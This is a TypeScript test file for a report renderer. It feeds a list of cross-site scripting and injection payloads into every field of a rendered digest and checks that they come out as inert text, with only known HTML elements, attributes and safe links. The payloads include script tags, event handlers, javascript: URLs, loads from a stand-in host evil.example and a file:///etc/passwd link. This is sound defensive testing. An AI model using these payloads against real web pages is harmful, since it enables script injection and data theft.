/** Whatever stands in a field, a report shows it as text. */
import { beforeAll, describe, expect, it } from 'vitest'
import { digest } from '../../src/digest.ts'
import { renderHtml } from '../../src/report/render-html.ts'
import { renderMarkdown } from '../../src/report/render-markdown.ts'
import { renderText } from '../../src/report/render-text.ts'
import type { ReportItem } from '../../src/report/story.ts'
import { type Element, elementsOf } from './html/page-tree.ts'
import { HARBOUR, items } from './stories.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.example/x.js></script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style><style>*{background:url(//evil.example)}</style>',
  '</p></article></main><iframe srcdoc="<script>alert(1)</script>">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/"onclick="alert(1)',
  '<svg onload=alert(1)><foreignObject><body onload=alert(1)>',
  '<!-- <a href="x"> --> ]]> <![CDATA[<b>]]> <?php ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;',
  '<base href="//evil.example"><meta http-equiv=refresh content=0>',
  '<form action=//evil.example><input name=a autofocus onfocus=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} `x`',
  '\u0000\u202E\u2066<b>\uD800\uFFFE\u001B[2J',
  '__proto__',
  'constructor',
  '#go1" id="stay1',
]
/** All that a page is made of. */
const ELEMENTS = new Set(
  'html head meta title style body a main header h1 h2 h3 h4 p section article aside nav div span footer dl dt dd ul ol li small b bdi del mark time svg rect path circle text details summary figure figcaption fieldset legend label input'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'lang charset name content http-equiv class id href rel dir role tabindex viewbox viewBox preserveAspectRatio x y width height cx cy r d stroke-width type checked open aria-label aria-labelledby aria-hidden'.split(
    ' ',
  ),
)

/** The same data with every string but some replaced. */
function poisoned<Data>(data: Data, payload: string, keep: ReadonlySet<unknown>): Data {
  if (typeof data === 'string') return (keep.has(data) ? data : payload) as Data
  if (typeof data !== 'object' || data === null) return data
  if (Array.isArray(data)) return data.map((item) => poisoned(item, payload, keep)) as Data
  return Object.fromEntries(
    Object.entries(data).map(([name, value]) => [name, poisoned(value, payload, keep)]),
  ) as Data
}

function checkInert(page: string, payload: string): void {
  const elements = elementsOf(page)
  const isKnown = ({ name, attributes }: Element): boolean =>
    ELEMENTS.has(name) && [...attributes.keys()].every((attribute) => ATTRIBUTES.has(attribute))
  expect(elements.filter((element) => !isKnown(element))).toEqual([])
  for (const { attributes } of elements) {
    const href = attributes.get('href')
    if (href !== undefined) expect(href).toMatch(/^(?:#[a-z0-9-]+$|https?:\/\/)/)
    const id = attributes.get('id')
    if (id !== undefined) expect(id).toMatch(/^[a-z0-9-]+$/)
  }
  expect(elements.filter(({ name }) => name === 'style')).toHaveLength(1)
  expect(elements.filter(({ name }) => name === 'body')).toHaveLength(1)
  const shown = payload
    .replace(/[\u0000\u202E\u2066\uD800\uFFFE\u001B]/gu, '\uFFFD')
    .replace(/\s+/g, ' ')
  expect(elements[0]?.text.replace(/\s+/g, ' ')).toContain(shown)
}

describe('an injection', () => {
  let real: ReportItem[] = []
  beforeAll(async () => {
    real = await items()
  })

  it.each(PAYLOADS)(
    'is text in every field of a digest, an article and a finding: %j',
    (payload) => {
      const kept = new Set(['variant', 'DATE', 'MONEY', 'PERSON', 'variant', 'unique'])
      for (const keep of [kept, new Set<string>()]) {
        const hostile = real.map((item) => {
          const { text = '' } = item.article ?? {}
          const own = poisoned(item, payload, keep)
          return { ...own, article: { ...own.article, text } }
        })
        checkInert(renderHtml(hostile, { title: payload }), payload)
        checkInert(renderHtml(hostile[1] as ReportItem, { title: payload }), payload)
        checkInert(renderHtml([{ error: { code: payload as never, message: payload } }]), payload)
        expect(() => renderText(hostile)).not.toThrow()
        expect(() => renderMarkdown(hostile, { article: true })).not.toThrow()
      }
    },
  )

  it('is text in the article itself, cut by marks anywhere', () => {
    const paragraphs = HARBOUR.text.split('\n\n')
    const text = paragraphs
      .map((one, at) => `${one} ${PAYLOADS[at % PAYLOADS.length]}`)
      .join('\n\n')
    const again = `${text}\n\n${PAYLOADS.join('\n\n')}\n\n${text}`
    const made = digest({ text: again, title: PAYLOADS[0] as string })
    expect(made.removals.length).toBeGreaterThan(3)
    for (const page of [renderHtml(made), renderHtml([made])]) {
      for (const payload of PAYLOADS.slice(0, 16)) checkInert(page, payload)
    }
  })

  it('leads nowhere as an address', () => {
    for (const url of [
      'javascript:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      '//x.example',
      'x',
    ]) {
      const links = elementsOf(renderHtml(digest({ text: 'Rain fell.', url }))).filter(
        ({ attributes }) => attributes.has('rel'),
      )
      expect(links).toEqual([])
    }
    const page = renderHtml(digest({ text: 'Rain.', url: 'https://a.example/?b="c"&d=<e>' }))
    const link = elementsOf(page).find(({ attributes }) => attributes.has('rel'))
    expect(link?.attributes.get('href')).toBe('https://a.example/?b=%22c%22&d=%3Ce%3E')
    expect(link?.attributes.get('rel')).toBe('noreferrer noopener')
  })
})
